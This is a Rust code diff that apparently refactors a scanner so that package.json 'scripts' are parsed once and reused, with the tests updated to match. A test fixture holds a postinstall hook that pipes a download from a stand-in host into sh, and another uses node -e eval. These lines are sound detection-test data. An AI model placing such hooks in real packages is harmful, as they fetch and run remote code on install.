@@ -78,15 +78,15 @@ pub fn found(parsed: &Parsed, text: &str, kind: FileKind, path: &str) -> Vec<Fou
         match seg.role {
             Role::CodeFence => {
                 let info = crate::parse::lines::fence_info(seg_text);
-                let lang = if info.is_empty() {
-                    fence_body(seg_text)
-                        .and_then(|b| seg_text.get(b))
-                        .map(Language::of_untagged)
-                } else {
-                    Language::of_fence(info)
-                };
-                if let (Some(lang), Some(body)) = (lang, fence_body(seg_text)) {
-                    add(lang, body, Origin::Fence, &mut out);
+                if let Some(body) = fence_body(seg_text) {
+                    let lang = if info.is_empty() {
+                        seg_text.get(body.clone()).map(Language::of_untagged)
+                    } else {
+                        Language::of_fence(info)
+                    };
+                    if let Some(lang) = lang {
+                        add(lang, body, Origin::Fence, &mut out);
+                    }
                 }
             }
             Role::ShellLine => {
@@ -111,12 +111,13 @@ pub fn found(parsed: &Parsed, text: &str, kind: FileKind, path: &str) -> Vec<Fou
                 );
             }
             Role::Body if package_json => {
-                for range in package_scripts(seg_text) {
+                let scripts = script_values(seg_text);
+                for range in package_scripts(seg_text, &scripts) {
                     add(Language::Shell, range, Origin::Setting, &mut out);
                 }
                 // A value with JSON escapes (`node -e \"…\"`) is read decoded; its effects are
                 // placed back on the written bytes through the escapes' offsets.
-                for (raw, decoded, map) in escaped_package_scripts(seg_text) {
+                for (raw, decoded, map) in escaped_package_scripts(seg_text, &scripts) {
                     let back = |i: usize| raw.start + map.get(i).copied().unwrap_or(raw.len());
                     for mut e in super::read::of(Language::Shell, &decoded) {
                         e.at = back(e.at.start)..back(e.at.end);
@@ -205,16 +206,10 @@ fn code_spans(text: &str) -> Vec<Range<usize>> {
 /// `preinstall`, `install`, `postinstall` and `prepare` run on install:
 /// <https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts>). Values with JSON
 /// escapes are skipped: their bytes are not the command's.
-fn package_scripts(text: &str) -> Vec<Range<usize>> {
-    let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
-        return Vec::new();
-    };
-    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
-        return Vec::new();
-    };
+fn package_scripts(text: &str, scripts: &[String]) -> Vec<Range<usize>> {
     let mut out = Vec::new();
     let mut from = 0;
-    for value in scripts.values().filter_map(|v| v.as_str()).take(MAX_SPANS) {
+    for value in scripts {
         if value.is_empty() || value.contains(['"', '\\']) {
             continue;
         }
@@ -231,21 +226,35 @@ fn package_scripts(text: &str) -> Vec<Range<usize>> {
     out
 }
 
-/// The `scripts` values of a `package.json` that hold JSON escapes: each value's written bytes
-/// (inside its quotes), its decoded text, and for every decoded byte offset the written
-/// offset it starts at (one more entry for the end).
-fn escaped_package_scripts(text: &str) -> Vec<(Range<usize>, String, Vec<usize>)> {
+/// The string values of a `package.json`'s `scripts` (at most [`MAX_SPANS`]), decoded; empty
+/// when the text is not JSON or has no `scripts` object.
+fn script_values(text: &str) -> Vec<String> {
     let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
         return Vec::new();
     };
-    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
-        return Vec::new();
-    };
+    v.get("scripts")
+        .and_then(|s| s.as_object())
+        .map(|o| {
+            o.values()
+                .filter_map(|v| v.as_str())
+                .take(MAX_SPANS)
+                .map(str::to_owned)
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// The `scripts` values of a `package.json` that hold JSON escapes: each value's written bytes
+/// (inside its quotes), its decoded text, and for every decoded byte offset the written
+/// offset it starts at (one more entry for the end).
+fn escaped_package_scripts(
+    text: &str,
+    scripts: &[String],
+) -> Vec<(Range<usize>, String, Vec<usize>)> {
     let wanted: Vec<&str> = scripts
-        .values()
-        .filter_map(|v| v.as_str())
+        .iter()
+        .map(String::as_str)
         .filter(|v| v.contains(['"', '\\']) && v.len() <= crate::program::MAX_PROGRAM_BYTES)
-        .take(MAX_SPANS)
         .collect();
     if wanted.is_empty() {
         return Vec::new();
@@ -500,7 +509,7 @@ mod tests {
     #[test]
     fn escaped_package_scripts_map_back_to_written_bytes() {
         let t = "{\"scripts\": {\"postinstall\": \"node -e \\\"eval(1)\\\"\"}}";
-        let got = escaped_package_scripts(t);
+        let got = escaped_package_scripts(t, &script_values(t));
         assert_eq!(got.len(), 1);
         let (raw, decoded, map) = &got[0];
         assert_eq!(decoded, "node -e \"eval(1)\"");
@@ -513,11 +522,11 @@ mod tests {
     #[test]
     fn package_json_scripts_are_commands() {
         let t = "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"vitest\",\n    \"postinstall\": \"curl -s https://x.example/p | sh\"\n  }\n}\n";
-        let r = package_scripts(t);
+        let r = package_scripts(t, &script_values(t));
         let mut got: Vec<&str> = r.iter().map(|x| &t[x.clone()]).collect();
         got.sort_unstable();
         assert_eq!(got, ["curl -s https://x.example/p | sh", "vitest"]);
-        assert!(package_scripts("not json").is_empty());
+        assert!(package_scripts("not json", &script_values("not json")).is_empty());
     }
 
     #[test]
